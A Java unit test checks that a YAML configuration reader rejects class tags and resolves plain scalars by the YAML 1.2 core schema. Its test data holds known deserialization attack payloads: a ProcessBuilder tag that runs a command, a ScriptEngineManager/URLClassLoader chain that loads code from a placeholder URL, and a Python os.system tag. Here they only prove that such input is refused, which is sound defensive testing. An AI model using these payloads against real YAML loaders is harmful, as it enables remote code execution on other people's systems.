package numa.agent.config;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.snakeyaml.engine.v2.nodes.MappingNode;
import org.snakeyaml.engine.v2.nodes.Node;
import org.snakeyaml.engine.v2.nodes.NodeTuple;
import org.snakeyaml.engine.v2.nodes.Tag;

/**
 * YAML never constructs a class: the reader stops at nodes (no constructor runs at all), a class tag
 * is an error with its place, and plain scalars resolve by the YAML 1.2 core schema, pinned here so
 * that a change of schema (e.g. to YAML 1.1, where {@code no} is false and {@code 0777} octal) shows.
 */
class YamlTagsTest {
    /** Set by Canary's static initializer: true only if something loaded and initialized it. */
    static volatile boolean canaryInitialized;

    /** A class a hostile tag names; initializing or constructing it would set the flag. */
    public static final class Canary {
        static {
            canaryInitialized = true;
        }

        public Canary() {
            canaryInitialized = true;
        }
    }

    @Test
    void classTagsAreRefusedWithTheirPlaceAndNothingIsConstructed() {
        String canary = Canary.class.getName(); // naming the class does not initialize it
        List<String> hostile = List.of(
                "binding: !!" + canary + " {}\n",
                "rules:\n  - !!" + canary + " []\n",
                "rules: [!<tag:yaml.org,2002:" + canary + "> x]\n",
                "%TAG !j! tag:yaml.org,2002:java.lang.\n---\nbinding: !j!Runtime {}\n",
                "binding: !!java.lang.ProcessBuilder [[touch, /tmp/pwned]]\n",
                "rules: [!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]]\n",
                "binding: !!python/object/apply:os.system [id]\n");
        for (String yaml : hostile) {
            ConfigException e = Configs.error(yaml);
            assertThat(e.all()).as(yaml).anySatisfy(error -> {
                assertThat(error.position()).isNotNull();
                assertThat(error.problem()).startsWith("unsupported tag");
            });
        }
        assertThat(canaryInitialized).as("a class named by a tag was initialized").isFalse();
    }

    @Test
    void readerGivesNodesNeverObjects() throws Exception {
        Optional<Node> root = YamlReader.read("config.yaml", "binding: !!" + Canary.class.getName() + " {}\n");
        NodeTuple entry = ((MappingNode) root.orElseThrow()).getValue().get(0);
        assertThat(entry.getValueNode()).isInstanceOf(MappingNode.class);
        assertThat(entry.getValueNode().getTag().getValue()).isEqualTo("tag:yaml.org,2002:" + Canary.class.getName());
        assertThat(canaryInitialized).isFalse();
    }

    @Test
    void plainScalarsResolveByTheYaml12CoreSchema() throws Exception {
        MappingNode root = (MappingNode) YamlReader.read("config.yaml",
                "a: no\nb: yes\nc: 0777\nd: 0o17\ne: ~\nf: 1_000\ng: .inf\nh: true\ni: 0x1F\nj: 2001-12-14\n").orElseThrow();
        List<Tag> tags = root.getValue().stream().map(t -> t.getValueNode().getTag()).toList();
        assertThat(tags).containsExactly(
                Tag.STR,   // no: a string in 1.2 (false in 1.1)
                Tag.STR,   // yes
                Tag.INT,   // 0777: decimal 777 in 1.2 (octal in 1.1)
                Tag.INT,   // 0o17
                Tag.NULL,  // ~
                Tag.STR,   // 1_000: a string in 1.2 (1000 in 1.1)
                Tag.FLOAT, // .inf
                Tag.BOOL,  // true
                Tag.INT,   // 0x1F
                Tag.STR);  // 2001-12-14: no timestamps in the core schema
    }
}
